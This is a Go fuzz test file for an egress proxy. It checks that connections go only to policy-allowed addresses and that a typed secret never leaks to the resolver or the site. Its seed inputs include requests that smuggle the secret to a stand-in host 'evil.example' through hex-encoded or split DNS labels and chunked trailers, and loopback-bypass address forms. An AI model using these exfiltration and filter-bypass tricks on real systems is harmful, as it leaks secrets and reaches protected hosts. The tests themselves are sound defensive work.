package egress

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"sync"
	"testing"

	"github.com/durable-browser/durable-browser/internal/netguard"
	"github.com/durable-browser/durable-browser/internal/redact"
)

// answerResolver answers every name with its addresses and records the
// names it was asked.
type answerResolver struct {
	mu    sync.Mutex
	addrs []netip.Addr
	names []string
}

func (r *answerResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.names = append(r.names, host)
	if len(r.addrs) == 0 {
		return nil, errors.New("no such host")
	}
	return r.addrs, nil
}

// FuzzPin: whatever a CONNECT or URL names and whatever the name resolves
// to, Pin never panics, looks a name up at most once, and connects only
// to an address the policy allows: an answer it was given (or the literal
// named), on a real port.
func FuzzPin(f *testing.F) {
	f.Add("", "shop.example:443", "93.184.216.34", false)
	f.Add("http", "shop.example", "10.0.0.5", true)
	f.Add("", "[::ffff:127.0.0.1]:7233", "", true)
	f.Add("https", "0x7f.1", "", false)
	f.Add("", "localhost:0", "", true)
	f.Add("http", "[fe80::1%25eth0]:80", "", true)
	f.Fuzz(func(t *testing.T, scheme, hostport, answer string, private bool) {
		pol := &netguard.Policy{AllowPrivate: private, Services: []netguard.Service{{Name: "frontend", Host: "0.0.0.0", Port: "7233"}}}
		r := &answerResolver{}
		if a, err := netip.ParseAddr(answer); err == nil {
			r.addrs = []netip.Addr{a}
		}
		got, d := Pin(context.Background(), pol, r, scheme, hostport)
		if len(r.names) > 1 {
			t.Fatalf("%d lookups", len(r.names))
		}
		if !d.Allowed() {
			if got.IsValid() {
				t.Fatalf("refused (%s) but pinned %v", d.Rule, got)
			}
			return
		}
		if got.Port() == 0 || !got.Addr().IsValid() {
			t.Fatalf("allowed without an address: %v", got)
		}
		tg, ok := target(scheme, hostport)
		if !ok {
			t.Fatalf("allowed %q, which target cannot read", hostport)
		}
		if !pol.Decide(tg, []netip.Addr{got.Addr()}, nil).Allowed() {
			t.Fatalf("pinned %v, which the policy refuses for %q", got, hostport)
		}
		if len(r.names) == 1 && (len(r.addrs) == 0 || got.Addr() != r.addrs[0].WithZone("")) {
			t.Fatalf("pinned %v, not the answer %v", got, r.addrs)
		}
	})
}

// FuzzPlainHTTP: whatever plain-http request a page sends its proxy, with
// a secret typed, neither the resolver nor the site is handed it: no name
// the resolver is asked, and no byte the site receives, carries it.
func FuzzPlainHTTP(f *testing.F) {
	const secret = "plain-Fuzz-Secret-77"
	f.Add([]byte("GET http://site.example/x HTTP/1.1\r\nHost: site.example\r\n\r\n"))
	f.Add([]byte("POST http://site.example/p HTTP/1.1\r\nHost: site.example\r\nContent-Length: 20\r\n\r\nplain-Fuzz-Secret-77"))
	f.Add([]byte("GET http://706c61696e2d46757a7a2d5365637265742d3737.evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n"))
	f.Add([]byte("GET http://PLAIN-FUZZ.secret-77.evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n"))
	f.Add([]byte("POST http://site.example/c HTTP/1.1\r\nHost: site.example\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nplai\r\n0\r\nX: n-Fuzz-Secret-77\r\n\r\n"))
	m := (&redact.Matcher{}).With(redact.Secret{Name: "PW", Value: secret, Origins: []string{"https://a.example"}})
	f.Fuzz(func(t *testing.T, in []byte) {
		req, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(in)))
		if err != nil {
			return
		}
		r := &answerResolver{addrs: []netip.Addr{netip.MustParseAddr("93.184.216.34")}}
		var mu sync.Mutex
		var sent bytes.Buffer
		p := &Proxy{o: Options{MaxScan: 1 << 16, Resolver: r}}
		p.policy.Store(&netguard.Policy{})
		p.armed.Store(m)
		p.rp = newReverseProxy(func(context.Context, string, string) (net.Conn, error) {
			a, b := net.Pipe()
			go func() {
				defer b.Close()
				br := bufio.NewReader(io.TeeReader(b, lockedWriter{&mu, &sent}))
				for {
					q, err := http.ReadRequest(br)
					if err != nil {
						return
					}
					_, _ = io.Copy(io.Discard, q.Body)
					if _, err := io.WriteString(b, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"); err != nil {
						return
					}
				}
			}()
			return a, nil
		})
		defer p.rp.Transport.(*http.Transport).CloseIdleConnections()
		p.ServeHTTP(httptest.NewRecorder(), req)
		for _, n := range r.names {
			if _, hit := m.FindHost(n, "https://x.invalid"); hit {
				t.Fatalf("the resolver was asked %q", n)
			}
		}
		mu.Lock()
		defer mu.Unlock()
		if _, hit := m.Find("http://x.invalid", sent.String()); hit {
			t.Fatalf("the site received the secret: %q", sent.String())
		}
	})
}

type lockedWriter struct {
	mu *sync.Mutex
	w  io.Writer
}

func (l lockedWriter) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(b)
}
